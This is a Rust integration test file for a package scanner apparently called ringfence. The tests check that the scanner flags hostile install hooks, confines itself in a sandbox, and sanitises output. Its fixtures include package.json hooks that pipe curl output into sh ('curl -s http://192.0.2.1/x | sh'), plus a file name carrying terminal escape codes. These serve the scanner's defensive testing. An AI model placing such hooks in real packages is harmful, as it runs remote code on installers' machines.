//! The program by itself. That it has a test of its own also makes Cargo build
//! it wherever all tests are run; the end-to-end tests look for it there.
#![expect(clippy::unwrap_used, reason = "a broken set-up must fail the test")]

use std::process::Command;

#[test]
fn the_program_says_its_version_and_the_schema_that_is_published() {
    for (argument, answer) in [
        ("--version", format!("ringfence {}\n", env!("CARGO_PKG_VERSION"))),
        ("schema", include_str!("../../../docs/plugin.schema.json").to_owned()),
    ] {
        let output = Command::new(env!("CARGO_BIN_EXE_ringfence")).arg(argument).output().unwrap();
        assert!(output.status.success(), "{output:?}");
        assert_eq!(String::from_utf8(output.stdout).unwrap(), answer);
    }
}

mod scan {
    use std::path::Path;
    use std::process::{Command, Output};

    fn scan(arguments: &[&str], target: &Path) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_ringfence"));
        command.arg("scan").args(arguments).arg(target).output().unwrap()
    }

    fn text(bytes: &[u8]) -> String {
        String::from_utf8(bytes.to_vec()).unwrap()
    }

    /// A package whose hook fetches something and runs it.
    fn bad(folder: &Path) {
        let hook = r#"{"name":"bad","scripts":{"postinstall":"curl -s http://192.0.2.1/x | sh"}}"#;
        std::fs::write(folder.join("package.json"), hook).unwrap();
    }

    #[test]
    fn a_package_that_fetches_and_runs_is_refused_in_every_format_and_nothing_of_it_ran() {
        let folder = tempfile::tempdir().unwrap();
        let marker = folder.path().join("ran");
        bad(folder.path());
        let hook = format!(
            "{{\"scripts\":{{\"preinstall\":\"touch {}; curl x | sh\"}}}}",
            marker.display()
        );
        let inner = folder.path().join("inner");
        std::fs::create_dir(&inner).unwrap();
        std::fs::write(inner.join("package.json"), hook).unwrap();
        for format in ["text", "json", "sarif", "markdown"] {
            let done = scan(&["--format", format], folder.path());
            assert_eq!(done.status.code(), Some(9), "{done:?}");
            assert!(text(&done.stdout).contains("download-and-execute"), "{done:?}");
            assert_eq!(text(&done.stderr), "", "a quick scan says nothing else");
        }
        assert!(!marker.exists(), "the hook of the package was run");
    }

    #[test]
    fn a_package_that_cannot_be_read_in_time_or_ends_its_reader_is_refused_unread() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("a.js"), "export const a = 1;").unwrap();
        // What is to be read never ends.
        let pipe = folder.path().join("pipe.toml");
        let made = Command::new("mkfifo").arg(&pipe).status().unwrap();
        assert!(made.success());
        let pipe_text = pipe.to_str().unwrap();
        let late = scan(&["--time-limit", "1", "--policy", pipe_text], folder.path());
        assert_eq!(late.status.code(), Some(9), "{late:?}");
        assert_eq!(text(&late.stdout), "");
        assert!(text(&late.stderr).contains("took more than 1 s"), "{late:?}");

        let (child, reader) = waiting(folder.path(), &pipe);
        let killed = Command::new("kill").args(["-ABRT", &reader.to_string()]).status().unwrap();
        assert!(killed.success());
        let ended = child.wait_with_output().unwrap();
        assert_eq!(ended.status.code(), Some(9), "{ended:?}");
        assert!(text(&ended.stderr).contains("ended by signal 6"), "{ended:?}");
    }

    /// A scan that waits for ever for a policy, and the process of its own in it.
    fn waiting(folder: &Path, pipe: &Path) -> (std::process::Child, u32) {
        let mut command = Command::new(env!("CARGO_BIN_EXE_ringfence"));
        command.args(["scan", "--time-limit", "100", "--policy"]).arg(pipe).arg(folder);
        command.stderr(std::process::Stdio::piped());
        let child = command.spawn().unwrap();
        let children = format!("/proc/{0}/task/{0}/children", child.id());
        let reader = loop {
            let found = std::fs::read_to_string(&children).unwrap();
            // It is this program before it is the other: its words tell.
            if let Ok(reader) = found.trim().parse::<u32>()
                && std::fs::read(format!("/proc/{reader}/cmdline"))
                    .is_ok_and(|words| words.windows(7).any(|word| word == b"--apart"))
            {
                break reader;
            }
            std::thread::yield_now();
        };
        (child, reader)
    }

    #[test]
    fn who_looks_at_a_package_is_bounded_and_does_not_outlive_who_asked() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("a.js"), "export const a = 1;").unwrap();
        let pipe = folder.path().join("pipe.toml");
        assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
        let (mut child, reader) = waiting(folder.path(), &pipe);
        let limit = |name: &str| {
            let limits = std::fs::read_to_string(format!("/proc/{reader}/limits")).unwrap();
            let line = limits.lines().find(|line| line.starts_with(name)).unwrap().to_owned();
            line.strip_prefix(name).unwrap().split_whitespace().next().unwrap().to_owned()
        };
        soon(|| limit("Max cpu time") != "unlimited");
        assert_eq!(limit("Max cpu time"), "200");
        assert_eq!(limit("Max address space"), (8_u64 << 30).to_string());
        assert_eq!(limit("Max core file size"), "0");
        child.kill().unwrap();
        child.wait().unwrap();
        let place = format!("/proc/{reader}/stat");
        soon(|| {
            let stat = std::fs::read_to_string(&place).unwrap_or_default();
            stat.is_empty() || stat.contains(") Z ") || stat.contains(") X ")
        });
    }

    #[test]
    fn who_looks_into_a_package_is_shut_in_before_a_byte_of_it_is_parsed() {
        let folder = tempfile::tempdir().unwrap();
        let calls = "require('fs').writeFileSync('/tmp/' + name, data);\n".repeat(200);
        std::fs::write(folder.path().join("a.js"), calls).unwrap();
        let kept = std::fs::File::open(folder.path().join("a.js")).unwrap();
        // A descriptor that this process has and did not mean to lend.
        rustix::io::fcntl_setfd(&kept, rustix::io::FdFlags::empty()).unwrap();
        let mut command = Command::new(env!("CARGO_BIN_EXE_ringfence"));
        command.args(["scan", "--format", "json"]).arg(folder.path());
        // A report is longer than this pipe holds: who writes it waits for a reader.
        let (_unread, full) = rustix::pipe::pipe().unwrap();
        rustix::pipe::fcntl_setpipe_size(&full, 4_096).unwrap();
        let mut child = command.stdout(full).spawn().unwrap();
        let children = format!("/proc/{0}/task/{0}/children", child.id());
        let of_reader = |reader: &str, file: &str| {
            std::fs::read_to_string(format!("/proc/{reader}/{file}")).unwrap_or_default()
        };
        let mut reader = String::new();
        soon(|| {
            reader = std::fs::read_to_string(&children).unwrap_or_default().trim().to_owned();
            of_reader(&reader, "status").contains("Seccomp:\t2")
        });
        let status = of_reader(&reader, "status");
        for wall in [
            "NoNewPrivs:\t1",
            "Seccomp:\t2",
            "CapEff:\t0000000000000000",
            "CapPrm:\t0000000000000000",
        ] {
            assert!(status.contains(wall), "{wall} is not in {status}");
        }
        let limits = of_reader(&reader, "limits");
        assert!(limits.contains("Max open files            3                    3"), "{limits}");
        let open = std::fs::read_dir(format!("/proc/{reader}/fd")).unwrap().count();
        assert_eq!(open, 3, "it kept a descriptor");
        let input = std::fs::read_link(format!("/proc/{reader}/fd/0")).unwrap();
        assert_eq!(input, Path::new("/dev/null"));
        child.kill().unwrap();
        child.wait().unwrap();
    }

    /// Starts what follows as on a kernel that has no filters of calls.
    const WITHOUT_FILTERS: &str = include_str!("../../../tests/support/without-filters.py");

    #[test]
    fn where_the_walls_cannot_stand_nothing_is_looked_at() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("a.js"), "export const a = 1;").unwrap();
        let mut command = Command::new("python3");
        command.args(["-c", WITHOUT_FILTERS, env!("CARGO_BIN_EXE_ringfence"), "scan"]);
        let refused = command.arg(folder.path()).output().unwrap();
        assert_eq!(refused.status.code(), Some(70), "{refused:?}");
        assert_eq!(text(&refused.stdout), "", "it was looked at without walls");
        let said = text(&refused.stderr);
        assert!(said.contains("nothing was looked at"), "{said}");
        assert!(said.contains("CONFIG_SECCOMP_FILTER"), "{said}");
    }

    #[test]
    fn who_has_only_the_program_reads_what_a_code_means() {
        let explain = |words: &[&str]| {
            let mut command = Command::new(env!("CARGO_BIN_EXE_ringfence"));
            command.arg("scan").args(words).output().unwrap()
        };
        // The code that the last line of a report asks for.
        let folder = tempfile::tempdir().unwrap();
        bad(folder.path());
        let report = text(&scan(&[], folder.path()).stdout);
        let (_, command) = report.trim_end().rsplit_once(": ringfence scan ").unwrap();
        assert_eq!(command, "--explain CODE");
        let page = explain(&["--explain", "download-and-execute"]);
        assert_eq!(page.status.code(), Some(0), "{page:?}");
        let whole = include_str!("../../../docs/rules/download-and-execute.md");
        assert_eq!(text(&page.stdout).trim_end(), whole.trim_end());

        let near = explain(&["--explain", "download-and-exec\u{1b}[2J"]);
        assert_eq!(near.status.code(), Some(2));
        let said = text(&near.stderr);
        assert!(said.contains("did you mean `download-and-execute`?"), "{said}");
        assert!(!said.contains('\u{1b}'), "{said:?}");
        let unknown = explain(&["--explain", "42"]);
        assert_eq!(unknown.status.code(), Some(2));
        assert!(text(&unknown.stderr).contains("hidden-payload, "), "{unknown:?}");
        // It explains or looks, not both; and it looks at something.
        assert_eq!(explain(&["--explain", "persistence", "."]).status.code(), Some(2));
        assert_eq!(explain(&[]).status.code(), Some(2));
    }

    /// Waits until it is so.
    fn soon(mut is_so: impl FnMut() -> bool) {
        let begun = std::time::Instant::now();
        while !is_so() {
            assert!(begun.elapsed().as_secs() < 30, "it does not come to be so");
            std::thread::yield_now();
        }
    }

    #[test]
    fn what_was_not_looked_at_is_never_called_clean() {
        let folder = tempfile::tempdir().unwrap();
        let empty = folder.path().join("empty");
        std::fs::create_dir_all(empty.join(".git")).unwrap();
        let broken = folder.path().join("package.tgz");
        std::fs::write(&broken, "no archive").unwrap();
        for target in [empty, broken, folder.path().join("missing")] {
            let done = scan(&[], &target);
            assert_eq!(done.status.code(), Some(2), "{done:?}");
            assert_eq!(text(&done.stdout), "");
            assert!(text(&done.stderr).contains("help: name a folder"), "{done:?}");
        }
    }

    #[test]
    fn a_threshold_decides_about_the_exit_code_and_not_about_the_answer() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("notes.txt"), "nothing").unwrap();
        for (arguments, code) in [
            (&["--fail-on", "warning"][..], 0),
            (&["--fail-on", "score:100"], 0),
            (&["--fail-on", "score:101"], 2),
            (&["--format", "yaml"], 2),
        ] {
            assert_eq!(scan(arguments, folder.path()).status.code(), Some(code), "{arguments:?}");
        }
        bad(folder.path());
        assert_eq!(scan(&["--fail-on", "score:0"], folder.path()).status.code(), Some(0));
        assert_eq!(scan(&["--fail-on", "warning"], folder.path()).status.code(), Some(9));
    }

    #[test]
    fn a_wrong_policy_is_told_with_line_and_column_and_nothing_is_answered() {
        let folder = tempfile::tempdir().unwrap();
        let policy = folder.path().join("policy.toml");
        std::fs::write(&policy, "[block]\ncodes = [\"persistance\"]\n").unwrap();
        let done = scan(&["--policy", policy.to_str().unwrap()], folder.path());
        assert_eq!(done.status.code(), Some(2));
        assert_eq!(text(&done.stdout), "");
        let told = text(&done.stderr);
        assert!(told.contains("line 2, column 10") && told.contains("`persistence`"), "{told}");
    }

    #[test]
    fn a_kept_report_is_a_baseline_and_the_new_chain_is_told() {
        let folder = tempfile::tempdir().unwrap();
        let package = folder.path().join("package");
        std::fs::create_dir(&package).unwrap();
        std::fs::write(package.join("package.json"), r#"{"name":"bad"}"#).unwrap();
        let kept = folder.path().join("old.json");
        std::fs::write(&kept, scan(&["--format", "json"], &package).stdout).unwrap();
        bad(&package);
        let done = scan(&["--baseline", kept.to_str().unwrap()], &package);
        let told = text(&done.stdout);
        assert!(told.contains("compared with the version before"), "{told}");
        assert!(told.contains("+ found critical download-and-execute"), "{told}");
        let same = scan(&["--baseline", package.to_str().unwrap()], &package);
        assert!(text(&same.stdout).contains("it does and needs the same"));
    }

    #[test]
    fn a_name_of_a_file_moves_no_cursor() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("a\u{1b}[2J\u{202e}.js"), [0, 159, 146, 150]).unwrap();
        for format in ["text", "json", "sarif", "markdown"] {
            let done = scan(&["--format", format], folder.path());
            let told = text(&done.stdout);
            assert!(!told.contains(['\u{1b}', '\u{202e}']), "{format}: {told:?}");
        }
    }

    #[test]
    fn a_manifest_that_is_written_fits_the_code() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("index.js"), "").unwrap();
        let done = scan(&["--manifest"], folder.path());
        assert_eq!(done.status.code(), Some(0), "{done:?}");
        std::fs::write(folder.path().join("plugin.yaml"), &done.stdout).unwrap();
        let done = scan(&["--format", "json"], folder.path());
        let told = text(&done.stdout);
        assert!(!told.contains("-capability\"") && !told.contains("manifest-broken"), "{told}");
    }
}
